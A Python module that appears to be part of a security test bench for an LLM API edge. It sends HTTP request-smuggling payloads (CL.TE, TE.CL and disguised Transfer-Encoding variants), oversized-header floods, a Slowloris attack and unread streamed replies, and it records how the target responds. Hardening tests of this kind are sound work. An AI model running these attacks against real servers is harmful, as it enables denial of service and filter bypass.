"""Attacks over HTTP/1.1: requests that two readers would understand differently, heads that are too
many, too long or too slow, and replies that nobody reads."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator, Sequence
from typing import Final

from bench.hostile.target import SOURCE, Findings, Target, crowd, turns

CHAT: Final = "/v1/chat/completions"
_ANSWER_S: Final = 3.0
"""How long an answer is waited for. Requests that are not whole have none by then."""
_LIMIT_BYTES: Final = 1 << 20
_REFUSED: Final = (OSError, EOFError, ValueError, asyncio.LimitOverrunError)
"""What ends a connection before an answer came."""
_HELD_S: Final = 4.0
"""Longer than the edge of this bench waits for a head."""
_CHUNKED: Final = b"Transfer-Encoding: chunked"
_END: Final = b"0\r\n\r\n"
_HIDDEN: Final = b"GET /hidden HTTP/1.1\r\nHost: edge\r\nX-Request-Id: smuggled\r\n\r\n"
"""An answer to it, though it is a refusal, shows that it was taken for a request."""
_MARKER: Final = b"GET /marker HTTP/1.1\r\nHost: edge\r\nX-Request-Id: marker\r\n\r\n"


def head(line: str, *fields: bytes) -> bytes:
    """A head with these fields, ended."""
    return b"\r\n".join((line.encode("latin-1"), b"Host: edge", *fields, b"", b""))


def post(path: str, body: bytes, *fields: bytes) -> bytes:
    """A request with a body of JSON."""
    length = b"Content-Length: %d" % len(body)
    return head(f"POST {path} HTTP/1.1", b"Content-Type: application/json", length, *fields) + body


def bearer(target: Target) -> bytes:
    """The field with the attacker's own key."""
    return b"Authorization: Bearer " + target.key.encode()


@contextlib.asynccontextmanager
async def connection(
    target: Target,
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """One to the HTTP door, aborted in the end. Raises OSError."""
    reader, writer = await asyncio.open_connection(
        target.host, target.http_port, limit=_LIMIT_BYTES, local_addr=(SOURCE, 0)
    )
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def ask(
    target: Target, data: bytes, findings: Findings, *, last_id: str = "", timeout_s: float = 3.0
) -> list[str]:
    """Send these bytes on a connection of their own, and read answers, which are noted, up to that
    to the request `last_id` ("": one), the end of the connection, or of the time; the requests'
    ids."""
    ids: list[str] = []
    try:
        async with asyncio.timeout(timeout_s), connection(target) as (reader, writer):
            writer.write(data)
            while not ids or (last_id and ids[-1] != last_id):
                ids.append(await _answer(reader, findings))
    except TimeoutError:
        findings.count("connection left open" if ids else "unanswered, connection open")
    except _REFUSED:
        findings.count("closed after the answer" if ids else "closed without an answer")
    return ids


async def _answer(reader: asyncio.StreamReader, findings: Findings) -> str:
    """Note the next answer; its request's id. Those that only say to go on (1xx) are left out."""
    status = 0
    while status < 200 and status != 101:
        lines = (await reader.readuntil(b"\r\n\r\n")).split(b"\r\n")
        status = int(lines[0].split(b" ")[1])
    fields = dict(line.lower().split(b": ", 1) for line in lines[1:] if b": " in line)
    body = b""
    if b"content-length" in fields:
        body = await reader.readexactly(int(fields[b"content-length"]))
    elif fields.get(b"transfer-encoding") == b"chunked":
        while size := int(await reader.readuntil(b"\r\n"), 16):
            body += await reader.readexactly(size + 2)
        await reader.readuntil(b"\r\n")
    findings.answered(status, body)
    return fields.get(b"x-request-id", b"").decode()


def framings() -> list[bytes]:
    """Both kinds of framing at once (CL.TE, TE.CL), lengths that are several or none, codings in
    disguise (TE.TE); a request is hidden where one of the readings ends the body."""
    behind, size = _END + _HIDDEN, len(_HIDDEN)
    inside = b"%x\r\n%b\r\n" % (size, _HIDDEN) + _END
    long = b"Content-Length: %d" % len(behind)
    odd = (b"0, %d" % size, b"+0", b"-1", b"0x0", b"0 0", b"", b"1e1", b"\xb2", b"9" * 300)
    codings = (
        b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked", b"TE: chunked",
        b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: gzip, chunked",
        b"X: y\nTransfer-Encoding: chunked", b" Transfer-Encoding: chunked",
        b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: \x0bchunked",
        b"Transfer\x00-Encoding: chunked", b"Transfer_Encoding: chunked",
    )  # fmt: skip
    cases: list[tuple[str, tuple[bytes, ...], bytes]] = [
        ("POST", (long, _CHUNKED), behind),
        ("POST", (_CHUNKED, long), behind),
        ("POST", (b"Content-Length: 4", _CHUNKED), inside),
        ("POST", (b"Content-Length: 0", b"Content-Length: %d" % size), _HIDDEN),
        *((method, (b"Content-Length: %d" % size,), _HIDDEN) for method in ("GET", "OPTIONS")),
        *(("POST", (b"Content-Length: " + text,), _HIDDEN) for text in odd),
        *(("POST", (long, name), behind) for name in codings),
    ]
    kind = b"Content-Type: application/json"
    return [
        head(f"{method} /tokenize HTTP/1.1", kind, *fields) + body for method, fields, body in cases
    ]


def long_heads() -> list[bytes]:
    """Heads that are long in every way."""
    line = "GET /openapi.json HTTP/1.1"
    return [
        head(line, *(b"x%d: y" % number for number in range(5000))),
        head(line, b"x: " + b"y" * 1_000_000),
        head(line, b"y" * 500_000 + b": x"),
        head(line, *([b"Cookie: " + b"z" * 4000] * 100)),
        head(f"GET /{'x' * 1_000_000} HTTP/1.1"),
        b"\r\n" * 100_000,
        head(line, b"x: y\r\n " + b"z\r\n " * 20_000 + b"w"),
    ]


async def contradicting_lengths(target: Target, seconds: float, findings: Findings) -> None:
    """Content-Length beside Transfer-Encoding in every disguise, several lengths, lengths that are
    no numbers, with a request hidden behind one of the readings; with a valid key and without."""
    cases = framings()

    async def send(number: int) -> None:
        case = cases[number // 2 % len(cases)]
        if number % 2:
            case = case.replace(b"\r\n", b"\r\n" + bearer(target) + b"\r\n", 1)
        ids = await ask(target, case + _MARKER, findings, last_id="marker", timeout_s=1.0)
        if "smuggled" in ids:
            findings.missed(f"a hidden request was answered: {case[:300]!r}")

    await crowd(seconds, send, 16)


async def head_floods(target: Target, seconds: float, findings: Findings) -> None:
    """Heads of thousands of fields, of a megabyte, of lines without an end."""
    await ask_each(target, seconds, findings, long_heads(), 16)


async def slow_heads(target: Target, seconds: float, findings: Findings) -> None:
    """Slowloris: a hundred connections at a time send their heads byte by byte."""

    async def one() -> None:
        with contextlib.suppress(OSError):
            async with connection(target) as (reader, writer):
                writer.write(b"GET /openapi.json HTTP/1.1\r\nx: ")
                closed = asyncio.create_task(reader.read())
                for _ in turns(_HELD_S):
                    if closed.done():
                        break
                    writer.write(b"y")
                    await asyncio.sleep(_HELD_S / 20)
                findings.count("ended by the edge" if closed.done() else "outlasted it")
                closed.cancel()
                await asyncio.gather(closed, return_exceptions=True)

    for _ in turns(seconds):
        await asyncio.gather(*(one() for _ in range(100)))


async def unread_replies(target: Target, seconds: float, findings: Findings) -> None:
    """Long replies with log probabilities that a key allows, and that nobody reads."""
    asked = {
        "messages": [{"role": "user", "content": "Count to a thousand."}],
        **{"max_tokens": 300, "stream": True, "logprobs": True, "top_logprobs": 20},
    }
    data = post(CHAT, json.dumps(asked).encode(), bearer(target))

    async def send(_: int) -> None:
        with contextlib.suppress(OSError):
            async with connection(target) as streams:
                streams[1].write(data)
                await asyncio.sleep(1.0)
                findings.count("left unread")

    await crowd(seconds, send, 4)


async def ask_each(
    target: Target,
    seconds: float,
    findings: Findings,
    cases: Sequence[bytes],
    num_senders: int = 4,
    timeout_s: float = _ANSWER_S,
) -> None:
    """Send one after the other, again and again, each on a connection of its own."""

    async def send(number: int) -> None:
        await ask(target, cases[number % len(cases)], findings, timeout_s=timeout_s)

    await crowd(seconds, send, num_senders)
